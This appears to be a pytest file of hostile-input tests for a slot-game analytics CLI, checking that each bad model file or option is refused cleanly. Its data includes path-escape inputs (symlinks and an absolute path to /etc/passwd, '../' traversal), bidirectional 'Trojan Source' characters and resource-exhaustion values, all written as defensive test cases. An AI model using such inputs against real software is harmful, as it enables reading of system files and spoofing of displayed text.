"""Hostile and careless input (issue 20): every bad model file or command line is
one line ``error: ...`` and exit code 2, before any long work, with nothing written to ``--out``.

The table :data:`CASES` runs in-process through :func:`analytic.cli.main` (an
interpreter start per entry would cost a second each); the entries that need a
real process (signals, a pipe, ``/dev/zero``) are at the end of the file.  The
oracle is the promise of ``DEVELOPERS.md`` (rule 3), not the program's output:
exit code 2, one stderr line starting ``error:`` that names the file and the key
path where there is one, no traceback, nothing in ``--out``, and no long work
begun: every entry point of the long work a command can reach (:data:`LONG_WORK`:
the round solve, the session and its chain, the simulator and its rounds, the
par sheet, the tuner, the feature graph) is replaced by a function that records
the call and stops it, and the test asserts that none was called (no clock is
read: a loaded machine cannot fail it).  The real processes keep a generous
:data:`HANG_GUARD` timeout that kills a process that hangs; it is a guard, not
the oracle.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from dataclasses import dataclass, field
from fractions import Fraction
from pathlib import Path
from typing import Callable

import pytest

from analytic.cli import main

ROOT = Path(__file__).resolve().parents[2]
#: Seconds after which a real process (the tests at the end of the file) is killed and its test fails:
#: a hang guard only, never the oracle (no assertion reads the clock); generous, so that a loaded machine
#: (a 0.1 s case once took 21 s) cannot fail a test that does not hang.
HANG_GUARD = 300.0

#: The entry points of the long work the commands reach, as ``module: attributes`` (each looked up on its
#: module at call time by ``analytic/cli/*.py``, so a patched attribute is the one called): ``solve``,
#: ``report``, ``verify``, ``session`` solve the round; ``session`` runs the chain (``_conv`` and
#: ``_conv_split``: the chain's rounds, after the refusals known only from the round's law); ``simulate``,
#: ``verify`` and ``session --simulate`` play rounds (``run_chunks`` and ``_run_dask``: after the checks of
#: ``simulate`` itself); ``report`` builds and writes the par sheet; ``tune`` searches and writes; ``graph``
#: builds the feature's state graph.
LONG_WORK = {
    "analytic.solver.round": ("solve_round", "solve_rounds", "solve_game"),
    "analytic.solver.session": ("solve_session", "_conv", "_conv_split"),
    "analytic.solver.round_law_file": ("session_from_law",),
    "analytic.simulator": ("simulate",),
    "analytic.simulator.runner": ("simulate", "run_chunks", "_run_dask"),
    "analytic.simulator.session": ("simulate_sessions",),
    "analytic.reports.model": ("build_sheet",),
    "analytic.reports.write": ("write_reports",),
    "analytic.tuner.search": ("tune", "tune_with_cap"),
    "analytic.tuner.write": ("write_tuned_model",),
    "analytic.features.graph.export": ("feature_graph",),
}


class ReachedLongWork(BaseException):
    """Raised by a patched :data:`LONG_WORK` entry point (a BaseException: no ``except Exception`` of the
    program turns it into an error line)."""


def guard_long_work(monkeypatch, allowed: tuple[str, ...] = ()) -> list[str]:
    """Replace every :data:`LONG_WORK` entry point but those named in ``allowed`` (``module.attribute``)
    by a function that records its name in the returned list and raises :class:`ReachedLongWork`."""
    import importlib

    reached: list[str] = []
    for module, names in LONG_WORK.items():
        mod = importlib.import_module(module)
        for name in names:
            full = f"{module}.{name}"
            assert callable(getattr(mod, name)), full  # (a renamed entry point fails here, not silently)
            if full in allowed:
                continue

            def stop(*args, _full=full, **kwargs):
                reached.append(_full)
                raise ReachedLongWork(_full)

            monkeypatch.setattr(mod, name, stop)
    return reached

#: A small game that solves in well under a second (3 reels, 1 line, a scatter, a currency cap).
TINY = (ROOT / "tests" / "data" / "tiny_scatter.toml").read_text(encoding="utf-8")


def tiny(*edits: tuple[str, str]) -> str:
    """:data:`TINY` with each ``old`` (exactly once in the text) replaced by ``new``."""
    text = TINY
    for old, new in edits:
        assert text.count(old) == 1, f"ambiguous or missing fixture text {old!r}"
        text = text.replace(old, new)
    return text


def csv_model(name: str) -> str:
    """:data:`TINY` with reel set ``base`` read from the CSV file ``name``."""
    return tiny(('base = [["a", "b", "w", "s", "x"], ["a", "b", "b", "s", "x"], ["a", "b", "w", "s", "x"]]',
                 f'base = {{ csv = "{name}" }}'))


GOOD_CSV = "reel1,reel2,reel3\na,a,a\nb,b,b\nw,b,w\ns,s,s\nx,x,x\n"


@dataclass
class Case:
    """One hostile input.

    ``model``: the model text (written to ``tmp/game/m.toml``) or None for the
    good :data:`TINY`; ``argv``: the command line, where ``{model}``, ``{tmp}``
    and ``{out}`` are filled in (``{out}`` a path that must not exist after the
    run); ``setup(tmp)``: makes extra files (CSV, links, pipes) and may return a
    model path to use instead; ``where``: fragments the error line must hold
    (the key path, the option); ``enters``: the :data:`LONG_WORK` entry points
    (``module.attribute``) whose own checks make the refusal, before their long
    work (whose deeper entry points stay guarded).
    """

    id: str
    argv: list[str]
    model: str | None = None
    where: tuple[str, ...] = ()
    setup: Callable[[Path], str | None] | None = None
    names_file: bool = True
    code: int = 2
    marks: tuple = field(default_factory=tuple)
    enters: tuple[str, ...] = ()


REPORT = ["report", "{model}", "--out", "{out}", "--formats", "md,json"]
SOLVE = ["solve", "{model}"]

CASES: list[Case] = []


def add(*args, **kw):
    CASES.append(Case(*args, **kw))


# --- control characters in every kind of text (the XLSX writer crashed on them) --------------
CONTROLS = {"nul": "\\u0000", "bel": "\\u0007", "esc": "\\u001b", "vt": "\\u000b", "bs": "\\u0008",
            "del": "\\u007f", "csi": "\\u009b", "ff": "\\u000c",
            # bidirectional overrides and isolates ("Trojan Source"): a published "\u202e%0.69" showed as
            # "96.0%" in every sheet, a mode name could read as another
            "bidi-rlo": "\\u202e", "bidi-lro": "\\u202d", "bidi-rle": "\\u202b", "bidi-rli": "\\u2067",
            "bidi-pdi": "\\u2069"}
TEXT_FIELDS = {
    "game-name": (('name = "Tiny"', 'name = "Ti{c}ny"'), "game.name"),
    "provider": (('provider = "Test"', 'provider = "Te{c}st"'), "game.provider"),
    "notes": (('notes = "fixture"', 'notes = "fix{c}ture"'), "game.notes"),
    "description": (('description = "plain"', 'description = "pl{c}ain"'), "modes.base.description"),
    "design-text": (('"paytable.a" = "the reason"', '"paytable.a" = "the {c}reason"'), "design.paytable.a"),
    "design-key": (('"paytable.a" = "the reason"', '"pay{c}table.a" = "the reason"'), "design"),
    "mode-name": (("[modes.base]", '[modes."ba{c}se"]'), "modes"),
    "published": (('published = { rtp = "95%" }', 'published = { rtp = "9{c}5%" }'), "game.published.rtp"),
}
for cname, c in CONTROLS.items():
    for fname, ((old, new), where) in TEXT_FIELDS.items():
        add(f"control-{cname}-in-{fname}", REPORT, tiny((old, new.replace("{c}", c))), (where, "control character"))
# invisible characters in names: "base" and "ba\u200bse" are two modes that look the same
for cname, c in {"zwsp": "\\u200b", "zwj": "\\u200d", "bom": "\\ufeff", "lsep": "\\u2028", "soft-hyphen": "\\u00ad"}.items():
    add(f"invisible-{cname}-in-mode-name", REPORT, tiny(("[modes.base]", f'[modes."ba{c}se"]')),
        ("modes", "invisible"))
    add(f"invisible-{cname}-in-design-key", REPORT,
        tiny(('"paytable.a" = "the reason"', f'"pay{c}table.a" = "the reason"')), ("design", "invisible"))
    add(f"invisible-{cname}-in-game-name", REPORT, tiny(('name = "Tiny"', f'name = "Ti{c}ny"')),
        ("game.name", "invisible"))
# one name in two Unicode forms (composed "caf\u00e9", decomposed "cafe\u0301"): two bet modes (or paytable
# entries) that look the same in every sheet and command line, with other figures
add("mode-names-equal-but-for-their-unicode-form", REPORT,
    tiny(("[modes.base]", '[modes."caf\u00e9"]'), ('description = "plain"', 'description = "plain"\n\n'
                                                   '[modes."cafe\u0301"]\ncost = 2\nreels = "base"')),
    ("modes", "looks the same"))
add("newline-in-game-name", REPORT, tiny(('name = "Tiny"', 'name = "Ti\\nny"')), ("game.name", "one line"))
add("newline-in-mode-name", REPORT, tiny(("[modes.base]", '[modes."ba\\nse"]')), ("modes", "control character"))
add("text-too-long", REPORT, tiny(('notes = "fixture"', f'notes = "{"x" * 3000}"')), ("game.notes", "3,000 characters"))
add("key-too-long", REPORT, tiny(('"paytable.a" = "the reason"', f'"{"k" * 300}" = "r"')), ("design", "300 characters"))

# --- exact-number strings: bounded before parsing (1e999999999 ran until killed) -------------
NUMBERS = {
    "huge-exponent": "1e999999999", "tiny-exponent": "1e-999999999", "exp-2000000": "1e-2000000",
    "exp-31": "1e31", "zero-denominator": "1/0", "nan": "nan", "inf": "inf", "long": "1" * 100,
    "arabic-digits": "\u0661\u0662", "hex": "0x10", "words": "ten", "empty": "", "slash-only": "/",
    "fraction-decimal": "1.5/2",
}
NUMBER_FIELDS = {
    "scatter-pay": ('pays = { 2 = "1/2", 3 = 5 }', 'pays = { 2 = "{v}", 3 = 5 }', "scatter.pays.2"),
    "mode-cost": ("cost = 1", 'cost = "{v}"', "modes.base.cost"),
    "cap-multiple": ("total_bet_multiple = 1000", 'total_bet_multiple = "{v}"', "cap.total_bet_multiple"),
    "cap-currency": ("currency = 250", 'currency = "{v}"', "cap.currency"),
    "cap-stake": ("stakes = [1, 2]", 'stakes = ["{v}", 2]', "cap.stakes[0]"),
}
for vname, v in NUMBERS.items():
    for fname, (old, new, where) in NUMBER_FIELDS.items():
        if vname in ("long", "hex", "words", "empty", "slash-only", "fraction-decimal") and fname not in (
                "scatter-pay", "mode-cost"):
            continue  # the same code path; two fields are enough
        add(f"number-{vname}-in-{fname}", REPORT, tiny((old, new.replace("{v}", v))), (where,))

# --- the grid ---------------------------------------------------------------------------
add("reels-1001", REPORT, tiny(("reels = 3\n", "reels = 1001\n")), ("game.reels", "<= 1000"))
add("rows-10^9", REPORT, tiny(("rows = 1\n", "rows = 1000000000\n")), ("game.rows", "<= 1000"))
add("cycle-beyond-10^1000", REPORT,
    '[game]\nname = "W"\nreels = 1000\nrows = 1\n[symbols]\na = "regular"\n[paytable]\na = { 3 = 1 }\n'
    f'[paylines]\nlines = [[{", ".join(["0"] * 1000)}]]\n[reels]\nbase = [' + ", ".join(['["a", "a", "a", "a", "a", "a", "a", "a", "a", "a", "a"]'] * 1000) + "]\n",
    ("reels.base", "10^1000"))

# --- integers and count keys ---------------------------------------------------------------
# a 20-reel line of x10^18 wilds paying 10^18: a win of 10^378 total bets, beyond float64 (an OverflowError
# traceback after the solve, in the volatility index)
add("win-beyond-float64", SOLVE, '[game]\nname = "W"\nreels = 20\nrows = 1\n[symbols]\na = "regular"\n'
    'w = { role = "wild", multiplier = 1000000000000000000 }\n[paytable]\na = { 20 = 1000000000000000000 }\n'
    f'[paylines]\nlines = [[{", ".join(["0"] * 20)}]]\n[reels]\nbase = [' + ", ".join(['["a", "w"]'] * 20) + "]\n",
    ("paytable", "10^378", "10^100"))
add("int-5000-digits", REPORT, tiny(("a = { 3 = 10 }", "a = { 3 = " + "9" * 5000 + " }")), ())
add("int-4000-digits", REPORT, tiny(("a = { 3 = 10 }", "a = { 3 = " + "9" * 4000 + " }")),
    ("paytable.a.3", "at most 10^18"))
add("int-above-1e18", REPORT, tiny(("a = { 3 = 10 }", "a = { 3 = 1000000000000000001 }")), ("paytable.a.3",))
add("int-negative-huge", REPORT, tiny(("cost = 1", "cost = -" + "9" * 30)), ("modes.base.cost",))
add("count-key-arabic-indic", REPORT, tiny(("a = { 3 = 10 }", 'a = { "\u0663" = 10 }')), ("paytable.a",))
add("count-key-devanagari", REPORT, tiny(("a = { 3 = 10 }", 'a = { "\u0969" = 10 }')), ("paytable.a",))
add("count-key-fullwidth", REPORT, tiny(("a = { 3 = 10 }", 'a = { "\uff13" = 10 }')), ("paytable.a",))
add("count-key-5000-digits", REPORT, tiny(("a = { 3 = 10 }", 'a = { "' + "3" * 5000 + '" = 10 }')),
    ("paytable.a",))
add("count-key-huge-scatter", REPORT, tiny(('pays = { 2 = "1/2", 3 = 5 }', 'pays = { 99999999999 = 5 }')),
    ("scatter.pays",))
add("float-pay", REPORT, tiny(("a = { 3 = 10 }", "a = { 3 = 1e308 }")), ("paytable.a.3", "integer"))
add("float-inf-currency", REPORT, tiny(("currency = 250", "currency = inf")), ("cap.currency", "finite"))
add("float-nan-stake", REPORT, tiny(("stakes = [1, 2]", "stakes = [nan, 2]")), ("cap.stakes[0]",))

FS = '\n[features.fs]\nkind = "free_spins"\nreels = "base"\ntrigger = {{ symbols = ["s"], counts = {{ 3 = {t} }} }}\n' \
     'retrigger = {{ symbols = ["s"], counts = {{ 3 = {r} }} }}\n\n[cap]'
add("award-1e9-spins", SOLVE, tiny(("\n[cap]", FS.format(t=999999999, r=1))), ("features.fs.trigger.counts.3", "10000"))
add("retrigger-award-1e9-spins", SOLVE, tiny(("\n[cap]", FS.format(t=10, r=999999999))),
    ("features.fs.retrigger.counts.3", "10000"))
add("award-negative", SOLVE, tiny(("\n[cap]", FS.format(t=-1, r=1))), ("features.fs.trigger.counts.3", ">= 0"))
# an award of 0: the solver started a feature of no spins (feature frequency 1 in N, a pick bonus played),
# the simulator started nothing (verify: z = -65)
add("award-zero", SOLVE, tiny(("\n[cap]", FS.format(t=0, r=1))), ("features.fs.trigger.counts.3", "award of 0"))
PICK_TRIG = '\n[features.pb]\nkind = "pick_bonus"\ntrigger = {{ symbols = ["s"], counts = {{ 3 = {t} }} }}\n' \
       'picks = {{ 1 = 1 }}\nprizes = [[5, 1]]\n\n[cap]'
add("pick-bonus-award-zero", SOLVE, tiny(("\n[cap]", PICK_TRIG.format(t=0))),
    ("features.pb.trigger.counts.3", "award of 0"))
# an award of 5 for a pick bonus was read by neither the solver nor the simulator (played once)
add("pick-bonus-award-five", SOLVE, tiny(("\n[cap]", PICK_TRIG.format(t=5))),
    ("features.pb.trigger.counts.3", "must be 1"))
# the base game's pseudo-kind of rules was accepted as a feature kind, then failed at solve (exit 1, no key)
add("feature-kind-game-rules", SOLVE, tiny(("\n[cap]", FS.format(t=10, r=1).replace('"free_spins"', '"__game__"'))),
    ("features.fs.kind", "unknown feature kind"))

# --- mechanics of [features.NAME] (analytic/model/mechanics/): one-line key-path errors, and the
# combinations no engine solves refused at the feature with what each engine accepts
MECH = '\n[features.fs]\nkind = "free_spins"\nreels = "base"\ntrigger = { symbols = ["s"], counts = { 3 = 10 } }\n'


def mech(lines: str, *edits) -> str:
    return tiny(("\n[cap]", MECH + lines + "\n\n[cap]"), *edits)


for mid, lines, where in [
    ("spins-max-spins-zero", "max_spins = 0", ("features.fs.max_spins", ">= 1")),
    ("spins-max-spins-with-retrigger", 'max_spins = 500\nretrigger = { symbols = ["s"], counts = { 3 = 2 } }',
     ("features.fs", "honours max_spins with a retrigger up to 200")),
    ("spins-per-symbol-zero", "retrigger = { per_symbol = 0 }", ("features.fs.retrigger.per_symbol", ">= 1")),
    ("spins-per-symbol-extra-key", "retrigger = { per_symbol = 5, from = 2 }",
     ("features.fs.retrigger.from", "unknown key")),
    ("spins-per-symbol-without-draws", "retrigger = { per_symbol = 5 }",
     ("features.fs", "no engine solves the mechanics declared: spins (retrigger per_symbol)")),
    ("multiplier-string", 'multiplier = "x"', ("features.fs.multiplier", "integer")),
    ("scatter-pays-number", "scatter_pays = 1", ("features.fs.scatter_pays", "true or false")),
    ("wild-symbols-a-wild", 'wild_symbols = { symbols = ["w"], wild = "w" }',
     ("features.fs.wild_symbols.symbols[0]", "must be regular")),
    ("wild-symbols-no-engine", 'wild_symbols = { symbols = ["a"], wild = "w" }',
     ("features.fs", "does not solve wild_symbols")),
    ("wild-reels-reel-4", 'wild_reels = { reels = [4], wild = "w" }', ("features.fs.wild_reels.reels[0]", "<= 3")),
    ("wild-reels-fixed-no-engine", 'wild_reels = { reels = [2], wild = "w" }',
     ("features.fs", "wild_reels (fixed)")),
    ("wild-reels-multiplier-zero", 'wild_reels = { revealed_by = "s", multipliers = { 0 = 1 } }',
     ("features.fs.wild_reels.multipliers.0", ">= 1")),
    ("wild-reels-combine-sum", 'wild_reels = { revealed_by = "s", multipliers = { 2 = 1 }, combine = "sum" }',
     ("features.fs.wild_reels.combine", "allowed: multiply, add")),
    ("wild-reels-add-no-engine", 'wild_reels = { revealed_by = "s", multipliers = { 2 = 1 }, combine = "add" }\n'
     'expanding_symbol = { choose_from = ["a"] }', ("features.fs", "needs wild_reels.combine = 'multiply'")),
    ("expanding-draw-sometimes", 'expanding_symbol = { draw = "sometimes", choose_from = ["a"] }',
     ("features.fs.expanding_symbol.draw", "allowed: at_start, at_each_award")),
    ("expanding-no-ceiling", 'expanding_symbol = { draw = "at_each_award" }',
     ("features.fs.expanding_symbol.repeat_multiplier", "ceiling")),
    ("expanding-ceiling-31", 'expanding_symbol = { draw = "at_each_award", repeat_multiplier = { ceiling = 31 } }',
     ("features.fs.expanding_symbol.repeat_multiplier.ceiling", "<= 30")),
    ("expanding-repeat-at-start", 'expanding_symbol = { choose_from = ["a"], repeat_multiplier = { ceiling = 2 } }',
     ("features.fs.expanding_symbol.repeat_multiplier", "at_each_award")),
    ("ladder-order-random", 'ladder = { order = "random" }', ("features.fs.ladder.order", "rank_ascending")),
    ("ladder-without-ranks", 'ladder = { order = "rank_ascending" }', ("symbols.a.rank", "climbs")),
    ("golden-reel-zero", 'golden_reels = { reels = [0], turned_by = ["s"] }',
     ("features.fs.golden_reels.reels[0]", ">= 1")),
    ("golden-unknown-symbol", 'golden_reels = { reels = [2], turned_by = ["gold"] }',
     ("features.fs.golden_reels.turned_by[0]", "unknown symbol 'gold'")),
    ("gift-effect-bomb", 'gift_pick = { wild = "w", gifts = [{ effect = "bomb", value = 1, count = 3 }] }',
     ("features.fs.gift_pick.gifts[0].effect", "allowed: spins, multiplier")),
    ("gift-wild-regular", 'gift_pick = { wild = "a", gifts = [{ effect = "spins", value = 1, count = 3 }] }',
     ("features.fs.gift_pick.wild", "must be wild")),
    ("gift-too-few", 'gift_pick = { wild = "w", gifts = [{ effect = "spins", value = 1, count = 2 }] }',
     ("features.fs.gift_pick.gifts", "holds 2 gifts")),
    ("gift-pick-with-ladder", 'gift_pick = { wild = "w", gifts = [{ effect = "spins", value = 1, count = 3 }] }\n'
     'ladder = { order = "rank_ascending" }',
     ("features.fs", "gift_pick [gift_pick, multiplier, expanding_symbol at_start (drawn by a gift); no retrigger] "
                     "does not solve ladder")),
    ("retired-key-variant", 'variant = "power"', ("features.fs.variant", "declare the mechanics")),
]:
    add(f"mechanic-{mid}", SOLVE, mech(lines, ('a = "regular"', 'a = { role = "regular", rank = 1 }'),
                                       ('b = "regular"', 'b = { role = "regular", rank = 2 }'))
        if mid == "gift-pick-with-ladder" else mech(lines), where)
add("mechanic-retired-kind", SOLVE, mech("", ('kind = "free_spins"', 'kind = "secrets_of' + '_christmas"')),
    ("features.fs.kind", "retired", "gift_pick"))
add("mechanic-retired-rule", SOLVE, mech('expanding_symbol = { choose_from = ["a"] }\n[rules]\n' + "bop" +
                                         '_gamble = "always"'),
    ("rules." + "bop" + "_gamble", "declared on the bet mode"))
add("mechanic-rule-not-honoured", SOLVE, mech('expanding_symbol = { choose_from = ["a"] }\n[rules]\n'
                                              "golden_immediate = false"), ("rules.golden_immediate", "unknown rule"))
add("mechanic-rule-default-only", SOLVE, mech('expanding_symbol = { choose_from = ["a"] }\n[rules]\n'
                                              'expanding_repeat_multiplier = "count_minus_one"'),
    ("rules.expanding_repeat_multiplier", "engine wald (features.fs) solves only the default"))
add("mode-gamble-policy", SOLVE, mech("", ('description = "plain"', 'gamble = { feature = "fs", into = "fs", '
                                           'policy = "sometimes", win_probability = "1/2" }')),
    ("modes.base.gamble.policy", "allowed: never, always"))
# a mode named 'all': '--mode all' solved every mode, so it could never be solved alone or have its law saved
add("mode-named-all", SOLVE, tiny(("[modes.base]", "[modes.all]")), ("modes.all", "'all' is taken"))
add("mode-power-retired", SOLVE, tiny(('description = "plain"', "power = true")), ("modes.base.power", "retired"))

PICK = ('\n[line_triggers]\nb = {{ 3 = "pick" }}\n[features.pick]\nkind = "pick_bonus"\npicks = {{ {n} = 1 }}\n'
        'prizes_per_pick = {{ {m} = 1 }}\nprizes = [[5, 1]]\n\n[cap]')
PICK_MODEL = tiny(('b = "regular"', 'b = "bonus"'), ("b = { 2 = 1, 3 = 5 }\n", ""))
add("pick-bonus-1e9-picks", SOLVE, PICK_MODEL.replace("\n[cap]", PICK.format(n=999999999, m=1), 1),
    ("features.pick.picks", "at most 40"))
add("pick-bonus-1e9-prizes-per-pick", SOLVE, PICK_MODEL.replace("\n[cap]", PICK.format(n=1, m=999999999), 1),
    ("features.pick.picks", "at most 40"))
add("pick-bonus-41-prizes", SOLVE, PICK_MODEL.replace("\n[cap]", PICK.format(n=41, m=1), 1),
    ("features.pick.picks", "41 prizes; at most 40"))
# a line trigger naming free spins: the solver gave them 0 spins (the award of a count below the trigger's),
# the simulator 1 (verify: z = 20)
add("line-trigger-starts-free-spins", SOLVE,
    PICK_MODEL.replace("\n[cap]", '\n[line_triggers]\nb = { 3 = "fs" }' + FS.format(t=10, r=1), 1),
    ("line_triggers.b.3", "only a pick bonus"))

# pays of 10^18 line bets with x10^6 wilds: the simulator's int64 ticks wrapped around (a simulated RTP of
# 3.5e17 for an exact 2.8e34, "ok" nowhere but no error either); refused, and by verify before its solve
#: ``simulate`` refuses what its integer tables cannot hold (``compile_tables``) before it plays a round
SIMULATE_CHECKS = ("analytic.simulator.simulate",)
BIG = tiny(("a = { 3 = 10 }", "a = { 3 = 1000000000000000000 }"), ('w = "wild"', 'w = { role = "wild", multiplier = 1000000 }'))
add("simulate-wins-beyond-int64", ["simulate", "{model}", "--rounds", "10"], BIG, ("paytable", "64-bit integers"),
    enters=SIMULATE_CHECKS)
add("verify-wins-beyond-int64", ["verify", "{model}", "--rounds", "10"], BIG, ("paytable", "64-bit integers"))
add("simulate-free-spin-beyond-int64", ["simulate", "{model}", "--rounds", "10"],
    mech("multiplier = 1000000000000000000", ("a = { 3 = 10 }", "a = { 3 = 1000 }")),
    ("features.fs", "64-bit integers"), enters=SIMULATE_CHECKS)
# one pay of 10^18 line bets beside a scatter pay of 1/100 (ticks of 1/100 line bet), or a stake making a
# currency cap of 250 a fraction of 1/4e27 line bet: an OverflowError traceback while the simulator's int64
# tables were filled (before the bound above was checked)
FINE = tiny(("a = { 3 = 10 }", "a = { 3 = 1000000000000000000 }"), ('2 = "1/2"', '2 = "1/100"'))
for cmd in (["simulate", "{model}", "--rounds", "10", "--no-progress"], ["verify", "{model}", "--rounds", "10",
                                                                        "--no-progress"],
            ["session", "{model}", "--balance", "5", "--rounds", "2", "--simulate", "3"]):
    add(f"{cmd[0]}-one-pay-beyond-int64-ticks", cmd, FINE, ("paytable", "64-bit integers", "1/100 line bet"),
        enters=SIMULATE_CHECKS if cmd[0] == "simulate" else ())
for st in ("1e30", "1e20"):
    add(f"simulate-stake-{st}-cap-beyond-int64-ticks", ["simulate", "{model}", "--rounds", "10", "--no-progress",
                                                          "--stake", st], None, ("cap.currency", "stake", "64-bit"),
        enters=SIMULATE_CHECKS)
add("simulate-pick-bonus-beyond-int64", ["simulate", "{model}", "--rounds", "10"],
    PICK_MODEL.replace("\n[cap]", PICK.format(n=40, m=1).replace("[[5, 1]]", "[[1000000000000000000, 1]]"), 1),
    ("features.pick", "64-bit integers"), enters=SIMULATE_CHECKS)

# --- nesting (RecursionError in the TOML reader and the loader) ----------------------------
add("nested-arrays-3000", REPORT, tiny(('published = { rtp = "95%" }', "published = { x = " + "[" * 3000 + "]" * 3000 + " }")), ())
add("nested-inline-tables-3000", REPORT,
    tiny(('published = { rtp = "95%" }', "published = " + "{ a = " * 3000 + "1" + " }" * 3000)), ())
add("dotted-key-3000-design", REPORT, tiny(('"paytable.a" = "the reason"', ".".join(["k"] * 3000) + ' = "r"')),
    ("design", "nest more than 32"))
add("dotted-key-3000-published", REPORT,
    tiny(('published = { rtp = "95%" }', "published = { " + ".".join(["p"] * 3000) + " = 1 }")),
    ("game.published", "nest more than 32"))
add("nested-tables-40", REPORT, tiny(('"paytable.a" = "the reason"', "[design" + ".d" * 40 + "]\nz = 'r'")),
    ("design", "nest more than 32"))
BASE_LINE = 'base = [["a", "b", "w", "s", "x"], ["a", "b", "b", "s", "x"], ["a", "b", "w", "s", "x"]]'
add("nested-arrays-40-in-reels", REPORT, tiny((BASE_LINE, "base = " + "[" * 40 + BASE_LINE[7:] + "]" * 40)),
    ("reels.base", "nest more than 32"))

# --- files: the model file ------------------------------------------------------------------


def _dir_as_model(tmp: Path) -> str:
    (tmp / "game" / "adir.toml").mkdir()
    return str(tmp / "game" / "adir.toml")


def _fifo_model(tmp: Path) -> str:
    os.mkfifo(tmp / "game" / "pipe.toml")
    return str(tmp / "game" / "pipe.toml")


def _dev_zero_model(tmp: Path) -> str:
    (tmp / "game" / "zero.toml").symlink_to("/dev/zero")
    return str(tmp / "game" / "zero.toml")


def _huge_model(tmp: Path) -> str:
    p = tmp / "game" / "huge.toml"
    with open(p, "wb") as fh:
        fh.truncate(65 * 1024 * 1024)  # sparse: no 65 MB written
    return str(p)


def _latin1_model(tmp: Path) -> str:
    p = tmp / "game" / "latin1.toml"
    p.write_bytes(TINY.replace('"Tiny"', '"T\xefny"').encode("latin-1"))
    return str(p)


add("model-is-a-folder", REPORT, setup=_dir_as_model, where=("a folder",))
add("model-is-a-fifo", REPORT, setup=_fifo_model, where=("not a regular file",))
add("model-links-to-dev-zero", REPORT, setup=_dev_zero_model, where=("not a regular file",))
add("model-over-64-MiB", REPORT, setup=_huge_model, where=("limit",))
add("model-not-utf8", REPORT, setup=_latin1_model, where=("UTF-8",))
add("model-missing", ["report", "{tmp}/nope.toml", "--out", "{out}"], where=("No such file",))
add("model-path-with-nul", ["solve", "{tmp}/a\0b.toml"], where=("embedded null",), names_file=False)
add("model-not-toml", REPORT, "this is = = not toml\n", ("not valid TOML",))
add("model-empty", REPORT, "", ("game",))
add("model-binary", REPORT, "\x00\x01\x02", ("not valid TOML",))

# --- files: CSV strips ---------------------------------------------------------------------


def _outside(tmp: Path) -> Path:
    d = tmp / "elsewhere"
    d.mkdir(exist_ok=True)
    (d / "strips.csv").write_text(GOOD_CSV)
    return d


def _csv_link_outside(tmp):
    (tmp / "game" / "link.csv").symlink_to(_outside(tmp) / "strips.csv")


def _csv_dir_link_outside(tmp):
    (tmp / "game" / "sub").symlink_to(_outside(tmp), target_is_directory=True)


def _csv_link_passwd(tmp):
    (tmp / "game" / "link.csv").symlink_to("/etc/passwd")


def _csv_link_dev_zero(tmp):
    (tmp / "game" / "link.csv").symlink_to("/dev/zero")


def _csv_fifo(tmp):
    os.mkfifo(tmp / "game" / "pipe.csv")


def _csv_dir(tmp):
    (tmp / "game" / "adir.csv").mkdir()


def _csv_huge(tmp):
    with open(tmp / "game" / "huge.csv", "wb") as fh:
        fh.truncate(65 * 1024 * 1024)


def _csv_latin1(tmp):
    (tmp / "game" / "l1.csv").write_bytes("reel1,reel2,reel3\na,a,\xe9\n".encode("latin-1"))


def _csv_long_cell(tmp):
    (tmp / "game" / "long.csv").write_text("a,a,a\n" + "x" * 5000 + ",b,b\nb,b,b\n")


def _csv_field_limit(tmp):
    (tmp / "game" / "field.csv").write_text('a,a,a\n"' + "y" * 200_000 + '",b,b\n')


def _csv_chain_links(tmp):  # a link inside the folder to a link that leaves it
    (tmp / "game" / "hop.csv").symlink_to(_outside(tmp) / "strips.csv")
    (tmp / "game" / "link.csv").symlink_to(tmp / "game" / "hop.csv")


add("csv-link-outside", REPORT, csv_model("link.csv"), ("reels.base.csv", "outside the model's folder"),
    setup=_csv_link_outside)
add("csv-under-linked-folder", REPORT, csv_model("sub/strips.csv"), ("reels.base.csv", "outside"),
    setup=_csv_dir_link_outside)
add("csv-link-to-etc-passwd", REPORT, csv_model("link.csv"), ("reels.base.csv", "outside"), setup=_csv_link_passwd)
add("csv-link-to-dev-zero", REPORT, csv_model("link.csv"), ("reels.base.csv", "outside"), setup=_csv_link_dev_zero)
add("csv-chained-links-outside", REPORT, csv_model("link.csv"), ("reels.base.csv", "outside"),
    setup=_csv_chain_links)
add("csv-absolute-path", REPORT, csv_model("/etc/passwd"), ("reels.base.csv", "relative path"))
add("csv-dot-dot", REPORT, csv_model("../elsewhere/strips.csv"), ("reels.base.csv", "relative path"),
    setup=lambda tmp: _outside(tmp) and None)
add("csv-fifo", REPORT, csv_model("pipe.csv"), ("reels.base.csv", "not a regular file"), setup=_csv_fifo)
add("csv-folder", REPORT, csv_model("adir.csv"), ("reels.base.csv", "a folder"), setup=_csv_dir)
add("csv-over-64-MiB", REPORT, csv_model("huge.csv"), ("reels.base.csv", "limit"), setup=_csv_huge)
add("csv-not-utf8", REPORT, csv_model("l1.csv"), ("reels.base.csv", "UTF-8"), setup=_csv_latin1)
add("csv-missing", REPORT, csv_model("none.csv"), ("reels.base.csv", "No such file"))
add("csv-long-unknown-cell", REPORT, csv_model("long.csv"), ("reels.base[0][1]", "5,000 characters"),
    setup=_csv_long_cell)
add("csv-field-over-csv-limit", REPORT, csv_model("field.csv"), ("reels.base.csv",), setup=_csv_field_limit)

# --- command lines: simulate / verify --------------------------------------------------------
SIM = ["simulate", "{model}", "--no-progress"]
for flag, values in {
    "--rounds": ["0", "-1", "100000000000000000000", "10000000001", "1e5", "abc", "", "\u0661\u0660"],
    "--seed": ["-1", "1.5", "x", str(2**200)],
    "--workers": ["0", "-3", "two", "1.5"],
    "--stake": ["0", "-5", "1/0", "abc", "1e999999999", "nan", "inf", "0/1"],
    "--scheduler": ["garbage", "tcp://", "http://host:8786", "tcp://host"],
}.items():
    for v in values:
        rounds = [] if flag == "--rounds" else ["--rounds", "10"]
        add(f"simulate{flag}={v[:12]!r}", SIM + rounds + [flag, v], where=(flag.lstrip("-"),), names_file=False)
add("simulate-stake-without-currency-cap", SIM + ["--rounds", "10", "--stake", "5"], tiny(
    ("currency = 250\ncurrency_name = \"GBP\"\nstakes = [1, 2]\n", "")), ("--stake", "no win cap in currency"))
add("simulate-no-rounds", SIM, where=("--rounds",), names_file=False)
add("simulate-unknown-mode", SIM + ["--rounds", "10", "--mode", "nope"], where=("modes", "nope"))
add("simulate-bad-format", SIM + ["--rounds", "10", "--format", "xml"], where=("--format",), names_file=False)
